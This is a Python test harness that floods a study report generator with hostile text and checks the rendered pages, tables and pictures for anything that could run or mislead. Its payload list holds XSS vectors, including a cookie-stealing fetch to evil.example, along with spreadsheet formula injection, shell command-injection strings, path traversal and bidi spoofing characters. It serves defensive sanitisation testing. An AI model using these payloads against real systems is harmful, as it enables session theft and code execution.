#!/usr/bin/env python3
"""Hostile texts for every place of a report where a stranger's text may stand.

hostile.py make DIR        writes into DIR two studies of the same shape, hostile and harmless:
                           WHICH.ndjson (records), WHICH.dict (codebook), WHICH.title; besides urls.ndjson, quotations
                           with hostile addresses, and hostile.md, an --about
hostile.py texts           prints the texts, one JSON string a line
hostile.py compare A B     two HTML pages: the same elements with the same attributes, as often; no script, no
                           address but http, https, data of CSV and #; every id once; every # has its end
hostile.py lines A B       two Markdown pages: line for line the same kind, with as many cells
hostile.py sane FILE       no control, direction mark or hidden character in the file
hostile.py about FILE      a page with hostile.md: nothing in it that could run or fetch
hostile.py links FILE      a page with urls.ndjson: no address but to the web, none that ends its attribute
hostile.py svg FILE...     well-formed pictures without script, style of others, or address
hostile.py csv FILE...     no cell that a spreadsheet would run
"""
import base64, collections, csv, html.parser, io, json, os, re, sys, urllib.parse, xml.etree.ElementTree

def families():
    """The texts, family by family."""
    js = ['alert(1)', 'fetch("//evil.example/"+document.cookie)', 'top.location="https://evil.example"']
    # tags, and what breaks out of where a text may stand
    for code in js:
        yield f'<script>{code}</script>'
        yield f'</script><script>{code}</script>'
        yield f'</td></tr></table><script>{code}</script>'
        yield f'</title></head><body onload=\'{code}\'>'
        yield f'</style><script>{code}</script>'
        yield f'--><script>{code}</script><!--'
        yield f'"><script>{code}</script>'
        yield f"'><img src=x onerror={code}>"
        yield f'<img src=x onerror="{code}">'
        yield f'<svg onload="{code}"><circle r="9"/></svg>'
        yield f'<svg><script>{code}</script></svg>'
        yield f'<svg><a xlink:href="javascript:{code}"><text y="9">x</text></a></svg>'
        yield f'</text></svg><script>{code}</script>'
        yield f'<math><mtext></mtext><mglyph><style><img src=x onerror={code}></style></mglyph></math>'
        yield f'<iframe srcdoc="<script>{code}</script>"></iframe>'
        yield f'<object data="javascript:{code}"></object>'
        yield f'<details open ontoggle={code}>x</details>'
        yield f'<template><script>{code}</script></template>'
        yield f'<noscript><p title="</noscript><img src=x onerror={code}>"></noscript>'
        yield f'[x](javascript:{code})'
        yield f'![x](javascript:{code})'
        yield f'<javascript:{code}>'
        yield f'javascript:{code}'
        yield f'JaVaScRiPt&colon;{code}'
        yield f'data:text/html,<script>{code}</script>'
    for tag in ('base href="https://evil.example/"', 'meta http-equiv="refresh" content="0;url=//evil.example"',
                'link rel=stylesheet href=//evil.example/x.css', 'style>*{display:none}', 'form action=//evil.example',
                'input autofocus onfocus=alert(1)', 'button formaction=javascript:alert(1)', 'embed src=//evil.example',
                'audio src=x onerror=alert(1)', 'video poster=//evil.example/x', 'marquee onstart=alert(1)', 'plaintext',
                'xmp', 'textarea', 'select', 'frameset onload=alert(1)', 'isindex type=image src=//evil.example',
                'body background=//evil.example', 'a href="//evil.example" onclick=alert(1)', 'table background=//evil.example',
                'div style="position:fixed;inset:0"', 'h1', 'b', 'i onmouseover=alert(1)', 'br', 'hr', '/main', '/div', '!--', '![CDATA[',
                '?php system("id") ?', '!DOCTYPE html', 'a name=x id=contents', 'script src=//evil.example/x.js', 'p/onclick=alert(1)/'):
        yield f'<{tag}>'
    # Markdown
    yield from ('# heading', '###### heading', 'heading\n===', 'heading\n---', '---', '***', '- item', '* item', '+ item', '1. item',
                '99999999) item', '> quote', '>>> quote', '    code', '\tcode', '```\ncode\n```', '~~~ html\n<b>\n~~~', '`code`',
                '``', '`', '*emphasis*', '**strong**', '_emphasis_', '__strong__', '***both***', '~~struck~~', '**', '*', '__', '\\',
                '\\\\', 'x\\', '[link](https://evil.example)', '[link](//evil.example)', '[link][ref]', '[ref]: https://evil.example',
                '![image](https://evil.example/x.png)', '![CSV](tables/x.csv)', '[CSV](tables/corpus.csv)', '![x](figures/tone.svg)',
                '[^1]', '[^1]: note', '<https://evil.example>', 'https://evil.example/?a=1&b=2', 'www.evil.example', 'me@evil.example',
                'mailto:me@evil.example', '| a | b |', '|', '||||||||', 'a | b', '| --- | --- |', '\\|', 'x |\n| --- |\n| y |', '- [ ] task',
                '- [x] task', '<!-- begin about -->', '<!-- end glossary -->', '<!-- begin figures -->', '[](#contents)', '](x)',
                '[a](<javascript:alert(1)>)', '[a](data:text/html;base64,PHNjcmlwdD4=)', '[a](vbscript:x)', '[a](\x01javascript:alert(1))',
                '[a]( java\nscript:alert(1))', ':::warning', '{.class #id onclick=x}', '$$\\href{javascript:alert(1)}{x}$$', '$x$', '@channel',
                '#1', '==mark==', 'H~2~O', 'x^2^', '--', '...', '"quotes"', "'quotes'", '(c)', ':smile:', '&nbsp;', '&lt;b&gt;', '&#60;b&#62;',
                '&#x3c;script&#x3e;', '&NewLine;&Tab;', '&amp;lt;', '&', '&;', '&#0;', '&#xD800;', '&#1114112;')
    # spreadsheets, templates, shells, gnuplot
    yield from ('=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '=HYPERLINK("https://evil.example","x")',
                '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")', '"=1+1"', '\'=1+1', ';=1+1', ',=1+1', '%0A=1+1',
                'DDE("cmd";"/C calc";"x")', '\uff1d1+1', '\uff0b1', '\uff201', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{% raw %}', '{1}', '{2} {3}',
                '{0}', '%s%n%x', '%1$s', '$(touch PWNED)', '`touch PWNED`', '; touch PWNED', '| touch PWNED', '&& touch PWNED',
                '"; system("touch PWNED"); "', "'; system('touch PWNED'); '", '"\nsystem("touch PWNED")\n"', '" . system("touch PWNED") . "',
                '!touch PWNED', '@PWNED', 'load "PWNED"', '# comment', '{/Symbol a}', '{/=200 huge}', 'a_b^c', '\\n\\t\\x00', '{', '}', '{{{{', '~a{.8-}',
                '&{phantom}', '%%', '%g', "''", '""', '"', "'", '../../../etc/passwd', 'CON', 'NUL.txt')
    # what is not seen, or turns what is
    yield from ('\x00', 'a\x00b', '\x01\x02\x03', '\x07bell', '\x08\x08\x08', '\x0b\x0c', '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x7f', '\x80\x85\x9b31m',
                '\u202egnp.exe', '\u202dabc\u202c', '\u2066abc', '\u2067\u2068\u2069', '\u200e\u200f', '\u061c', 'pay\u200bpal', 'a\u200db', '\u2060\ufeff',
                '\U000e0068\U000e0069', '\U000e0001', 'so\u00adft', '\u2028line\u2029', 'a\u0085b', '\u00a0', '\u3000wide\u3000', '\u2003em\u2003', '\u115f\u3164',
                '\u180e', '\ufff9a\ufffab\ufffb', 'Z' + '\u0310\u0318\u0337' * 60, '\u0301' * 200, 'e\u0301\u20dd', '\u05e9\u05dc\u05d5\u05dd',
                '\u0645\u0631\u062d\u0628\u0627 abc 123', '\u0430\u0440\u0440\u04cf\u0435.com', '\uff1cscript\uff1e', '\u2039b\u203a', '\ufe64b\ufe65', '\u226e',
                '\U0001f468\u200d\U0001f469\u200d\U0001f467', '\U0001f1f7\U0001f1fa', '\U0001f44d\U0001f3ff', '1\ufe0f\u20e3', '\ud7ff\ue000\uf8ff', '\ufdd0\uffff',
                '\U0010ffff', '\u0904\u093f', '\U0001d4d0\U0001d4d1', '\u2588\u2588\u2588', '\u2593\u2591\u2588', '\u2588', '\u2014', '\u2212', '\u00b7', '\u0130\u0131\u017f\u212a')
    # sizes
    yield from ('W' * 10000, '\u0416' * 10000, 'a ' * 5000, '<' * 3000, '*' * 3000, '[' * 3000, '`' * 3000, '(' * 3000, '> ' * 500, '|' * 3000, '\\' * 3001,
                '!' + '[' * 1000 + ']' * 1000, '**a ' * 700, '_a ' * 700, '<a' * 900, '&' * 3000, '\u0435\u0301' * 2000, '\U0001f600' * 900, '- ' * 300)

def unique(texts):
    seen = set()
    return [t for t in texts if not (t in seen or seen.add(t))]

TEXTS = unique(families())
assert len(TEXTS) >= 300, len(TEXTS)

class Texts:
    """
    One text for each place that asks.  In row i the k-th place gets text i + 13 k, so that over all rows each place
    gets each text.  A number in front or behind tells it from all others: none is alike or empty.
    """
    def __init__(self, hostile):
        self.hostile, self.n, self.row, self.place = hostile, 0, 0, 0

    def begin(self, row):
        self.row, self.place = row, 0

    def __call__(self, front=None):
        self.n += 1
        self.place += 1
        if not self.hostile:
            return f'harmless {self.n}'
        text = TEXTS[(self.row + 13 * self.place) % len(TEXTS)]
        front = (self.row + self.place) % 2 if front is None else front
        return f'{self.n} {text}' if front else f'{text} {self.n}'

def study(t):
    """The records of a study in which each text is t()."""
    n = len(TEXTS)
    out = []

    def row(table, key, total=False, **cells):
        head = {'kind': 'row', 'id': f'{table}:{key}', 'table': table}
        out.append({**head, **({'total': True} if total else {}), **cells})
    months = [f'2024-{m:02}' for m in range(1, 13)]
    for i in range(n):
        t.begin(i)
        out.append({'kind': 'page', 'id': f'p{i}', 'name': t()})
        row('corpus', i, page=f'p{i}', name=t(), group=t(), members=1000 + i, bodies=1, posts=i % 7 + 1, comments=i + 5, citizens=i,
            official=2, deleted=1, likes=10, reposts=3, views=500, comments_declared=i + 6, missing=1, comments_per_post=1.5)
        row('tone_by_page', i, page=f'p{i}', name=t(), n=20, negative=10, neutral=6, positive=4)
        row('replies_by_page', i, page=f'p{i}', name=t(), eligible=20, answered=10, median_seconds=3600)
        row('openness_by_page', i, page=f'p{i}', name=t(), open=3, closed=1, unknown=0, openness=0.75, unknown_share=0)
        row('engagement', i, page=f'p{i}', name=t(), members=1000, posts=3, er_post=1.5, popularity=2.5, commitment=1.25, virality=0.5)
        row('gap', i, page=f'p{i}', name=t(), declared=0.5, declared_low=0.4, declared_high=0.6, declared_n=30, perceived=0.25,
            perceived_low=0.2, perceived_high=0.3, perceived_n=90, gap=0.25, net_gap=0.5)
        row('index', i, page=f'p{i}', name=t(), index=round(0.9 - i / 1000, 6) if i < n - 40 else None, rank=i + 1 if i < n - 40 else None,
            rank_low=max(1, i - 3) if i < n - 40 else None, rank_high=i + 5 if i < n - 40 else None, indicators=i % 9,
            group_a=0.5, **({} if i < n - 40 else {'note': t()}))
        row('found', i, match_by=('rule', 'hand', 'excluded')[i % 3], match_reason=t(), records=i + 1)
        row('openness', i, openness=t(), posts=2)
        row('keyness_posts', i, term=t(), n_target=9, n_reference=3, g2=400 - i, log_ratio=1.5, p_adjusted=0.001, docs_target=5)
        row('keyness_comments', i, term=t(), n_target=9, n_reference=3, g2=400 - i, log_ratio=1.5, p_adjusted=0.001, docs_target=5)
        row('agreement', i, variable=t(), level='nominal', coders=2, paired=20, percent=0.9, alpha=0.5, alpha_low=0.4, alpha_high=0.6,
            ac1=0.8, p_667=0.1, replicates=100)
        row('evaluation', i, variable='sentiment', **{'class': t()}, gold=10, predicted=9, precision=0.9, precision_low=0.8,
            precision_high=0.95, recall=0.8, recall_low=0.7, recall_high=0.9, f1=0.85)
        row('prevalence', i, variable='sentiment', **{'class': t()}, population=100, coded=50, raw=0.5, share=0.4, low=0.3, high=0.5,
            cluster_low=0.3, cluster_high=0.5, deff=1.5, note=t())
        row('journey', i, service=t(), stage=t(), segment=t(), n=50, left_out=0, csat=0.5, csat_low=0.4, csat_high=0.6, csat_n=50, csi_100=50,
            nps=10, nps_se=3, nps_n=50, ces_100=60, small=False, minutes=i)
        row('journey_weakest', i, service=t(), judge='csat', stages=4, stage=t(), value=0.5, low=0.4, high=0.6, n=50, next_stage=t(),
            next_value=0.6, difference=0.1, difference_low=-0.1, difference_high=0.3, clear=False, minutes=i)
        row('index_sensitivity', i, without=t(), tau=0.9, largest_move=3, moved=t())
        # a table of its own, under this name
        row(t(), 0, what=t(), list=[t(), t()], flag=True, n=3)
        out.append({'kind': 'run', 'id': f'run:{i}', 'tool': t(), 'version': t(), 'arguments': [t(), '/home/' + t()],
                    'files': [t() + ' sha256:00', t()], 'records_in': 3, 'records_out': 2, 'refused': i % 2, 'seed': 1})
        code = f'theme/c{i % 9}' if i % 2 else 'theme/' + t()
        row('codes', i, codes=code, n=20 + i, negative=10)
        row('codes_ci', i, codes=code, n=20 + i, share=0.2, share_low=0.1, share_high=0.3, deff=1.2)
        for c in range(2):
            out.append({'kind': 'comment', 'id': f'c{i}_{c}', 'post': f'o{i}', 'page': f'p{i}', 'text': t(front=c), 'codes': [f'theme/c{i % 9}'],
                        'sentiment': 'negative', 'time': '2024-05-06T07:08:09Z', 'url': f'https://site.example/wall{i}?reply={c}'})
    row('code_base', 'total', total=True, n=5000)
    row('tone', 'total', total=True, n=5000, negative=2000, neutral=2000, positive=1000)
    row('reactions', 'total', total=True, like=5, haha=4, wow=3, love=2, anger=1, sad=0, likes=15, reposts=3, views=100)
    row('replies', 'total', total=True, eligible=100, answered=50, median_seconds=3600, p90_seconds=90000, within_9h=30)
    for m in months:
        row('tone_by_month', m, **{'time:month': m}, n=30, negative=10, neutral=10, positive=10)
    for i in range(0, n, 15):      # names of columns
        t.begin(i)
        row(f'columns{i}', i, **{'first': 'x', **{t().replace('\0', '\ufffd'): t() for _ in range(20)}})  # a name ends at NUL
    for i in range(n):
        t.begin(i)
        row('months', i, **{'time:month': t(), 'sentiment': t(), 'n': 2})
    return out

def urls():
    """Quotations whose address is each text: by itself, and as the rest of a good one."""
    for i, text in enumerate(TEXTS):
        for j, url in enumerate((text, 'https://site.example/' + text, 'https:' + text)):
            yield {'kind': 'comment', 'id': f'u{i}_{j}', 'text': f'text {i} {j}', 'codes': [f'a/{(i * 3 + j) // 90}'], 'url': url}
    for c in range(len(TEXTS) * 3 // 90 + 1):
        yield {'kind': 'row', 'id': f'codes:a/{c}', 'table': 'codes', 'codes': f'a/{c}', 'n': 90, 'negative': 9}

def codebook(t):
    lines = ['[theme]', '@ru ' + one_line(t()), '@en ' + one_line(t())]
    for i in range(9):
        t.begin(37 * i)
        label = one_line(t())
        lines += ['', f'[theme/c{i}]', '@ru ' + label, '@en ' + label, f'слово{i}']
    return '\n'.join(lines) + '\n'

def one_line(text):
    return re.sub(r'[\x00-\x1f\x7f-\x9f\u2028\u2029]', ' ', text)[:500]

def make(directory):
    for which in ('hostile', 'harmless'):
        t = Texts(which == 'hostile')
        with open(os.path.join(directory, which + '.ndjson'), 'w', encoding='utf-8') as f:
            for record in study(t):
                f.write(json.dumps(record, ensure_ascii=t.n % 2 == 0) + '\n')
        with open(os.path.join(directory, which + '.dict'), 'w', encoding='utf-8') as f:
            f.write(codebook(t))
        with open(os.path.join(directory, which + '.title'), 'w', encoding='utf-8') as f:
            f.write(one_line('</title><script>alert(1)</script># [x](javascript:1) `|` \u202e' if t.hostile else 'title'))
    with open(os.path.join(directory, 'urls.ndjson'), 'w', encoding='utf-8') as f:
        for record in urls():
            f.write(json.dumps(record) + '\n')
    with open(os.path.join(directory, 'hostile.md'), 'w', encoding='utf-8') as f:
        f.write('# about\n\n' + '\n\n'.join(closed(text.replace('\0', ' ')) for text in TEXTS if len(text) < 999) + '\n')

def closed(text):
    """With the end of whatever it leaves open, for an --about that does is refused."""
    for begin, end in (('```', '```'), ('~~~', '~~~'), ('<!--', '-->'), ('<?', '?>'), ('<![CDATA[', ']]>'), ('<!', '>')):
        if text.startswith(begin):
            return text if end in text[len(begin):] and begin != '```' or text.count(begin) > 1 else text + '\n' + end
    return text + '\n</script>' if re.match('<(script|style|pre|textarea)', text) else text

# --- what a page is made of ------------------------------------------------------------------------

class Page(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = collections.Counter()
        self.ids, self.links, self.scripts, self.words, self.stack = collections.Counter(), [], 0, [], []
        self.attributes = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        names = tuple(sorted(name for name, _ in attributes))
        self.elements[tag, names] += 1
        self.attributes.update((tag, name) for name in names)
        for name, value in attributes:
            if name == 'id':
                self.ids[value] += 1
            if name in ('href', 'src', 'xlink:href', 'action', 'data', 'poster', 'srcset', 'formaction', 'cite', 'background'):
                self.links.append(value or '')

    def handle_data(self, data):
        self.words.append(data)

def page(path):
    with open(path, encoding='utf-8') as f:
        return Page(f.read())

def bad_links(p):
    """Addresses that lead elsewhere than to the web, to a table in the page, or to a place of the page."""
    for link in p.links:
        if link.startswith('#'):
            if urllib.parse.unquote(link[1:]) not in p.ids:
                yield link
        elif not re.match(r'https?://|data:text/csv[;,]', link):
            yield link

def compare(first, second):
    a, b = page(first), page(second)
    flaws = []
    for key in sorted(set(a.elements) | set(b.elements)):
        if a.elements[key] != b.elements[key]:
            flaws.append(f'{key}: {a.elements[key]} against {b.elements[key]}')
    for p, name in ((a, first), (b, second)):
        flaws += [f'{name}: address {link[:80]!r}' for link in bad_links(p)]
        flaws += [f'{name}: id {i!r} {n} times' for i, n in p.ids.items() if n > 1]
        flaws += [f'{name}: attribute {at} of {tag}' for tag, at in sorted(p.attributes) if at.startswith('on')]
        flaws += csv_flaws(name, [csv_of(link) for link in p.links if link.startswith('data:')])
    return flaws

def csv_of(link):
    head, _, data = link.partition(',')
    return base64.b64decode(data).decode('utf-8') if head.endswith(';base64') else urllib.parse.unquote(data)

def csv_flaws(name, texts):
    number = re.compile(r'[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$')
    for text in texts:
        delimiter = ';' if text.split('\n', 1)[0].count(';') > text.split('\n', 1)[0].count(',') else ','
        for row in csv.reader(io.StringIO(text.lstrip('\ufeff'), newline=''), delimiter=delimiter):
            for cell in row:
                if cell[:1] in ('=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20') and not number.match(cell):
                    yield f'{name}: a spreadsheet runs {cell[:60]!r}'

def shape(line):
    """What kind of line of Markdown it is, and how many cells it has."""
    marks = re.match(r'(\s*)(#+ |- |> ?|\| |!\[|\[CSV\]|<!--|$)?', line)
    kind = (marks.group(1), marks.group(2))
    return kind + (len(re.findall(r'(?<!\\)(?:\\\\)*\|', line)),) if kind[1] == '| ' else kind

def lines(first, second):
    with open(first, encoding='utf-8', newline='') as f:
        a = f.read().split('\n')
    with open(second, encoding='utf-8', newline='') as f:
        b = f.read().split('\n')
    flaws = [] if len(a) == len(b) else [f'{len(a)} lines against {len(b)}']
    for number, (x, y) in enumerate(zip(a, b), 1):
        if shape(x) != shape(y):
            flaws.append(f'line {number}: {x[:90]!r} against {y[:90]!r}')
    return flaws

HIDDEN = re.compile('[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb'
                    '\u2028\u2029\U000e0000-\U000e0fff]')

def sane(path):
    with open(path, encoding='utf-8', newline='') as f:
        text = f.read()
    return [f'{path}: U+{ord(m.group()):04X} after {text[max(0, m.start() - 40):m.start()]!r}' for m in HIDDEN.finditer(text)]

def about(path):
    p = page(path)
    flaws = [f'address {link[:80]!r}' for link in p.links
             if not re.match(r'#|https?://|mailto:|data:(text/csv|image/(png|jpeg|gif|webp))[;,]|[\w./-]*$|//|%', link)]
    flaws += [f'attribute {at} of {tag}' for tag, at in sorted(p.attributes) if at.startswith('on')]
    flaws += [f'element {tag}' for tag, _ in p.elements
              if tag in ('iframe', 'object', 'embed', 'base', 'form', 'input', 'link', 'template', 'math', 'frameset', 'textarea', 'plaintext')]
    return flaws

def links(path):
    p = page(path)
    flaws = [f'address {link[:80]!r}' for link in bad_links(p)]
    flaws += [f'address {link[:80]!r}' for link in p.links if re.search(r'[\s<>"\'`\\]', link) and not link.startswith('#')]
    flaws += [f'{tag} with {names}' for tag, names in p.elements
              if tag == 'a' and not {'href'} <= set(names) <= {'href', 'class', 'aria-label', 'aria-hidden', 'tabindex', 'download', 'rel', 'title'}]
    return flaws + ([] if sum(link.startswith('https://site.example/') for link in p.links) > 300 else ['good addresses are lost'])

def svg(path):
    flaws = []
    for element in xml.etree.ElementTree.parse(path).getroot().iter():
        tag = element.tag.rpartition('}')[2]
        if tag not in ('svg', 'title', 'desc', 'g', 'defs', 'path', 'rect', 'circle', 'line', 'polyline', 'polygon', 'text', 'tspan', 'use',
                       'clipPath', 'ellipse', 'style', 'filter', 'feFlood', 'feComposite'):
            flaws.append(f'{path}: element {tag}')
        for name, value in element.attrib.items():
            name = name.rpartition('}')[2]
            if name.startswith('on') or (name == 'href' and not value.startswith('#')) or re.search(r'url\((?!#)', value):
                flaws.append(f'{path}: {name} of {tag}')
    return flaws

def main(arguments):
    verb, rest = arguments[0], arguments[1:]
    if verb == 'make':
        return make(*rest)
    if verb == 'texts':
        return print('\n'.join(json.dumps(text) for text in TEXTS))
    flaws = []
    if verb == 'csv':
        for path in rest:
            with open(path, encoding='utf-8', newline='') as f:
                flaws += csv_flaws(path, [f.read()])
    elif verb == 'svg':
        for path in rest:
            flaws += svg(path)
    else:
        flaws = {'compare': compare, 'lines': lines, 'sane': sane, 'about': about, 'links': links}[verb](*rest)
    print('\n'.join(flaws[:40]))
    sys.exit(1 if flaws else 0)

if __name__ == '__main__':
    main(sys.argv[1:])
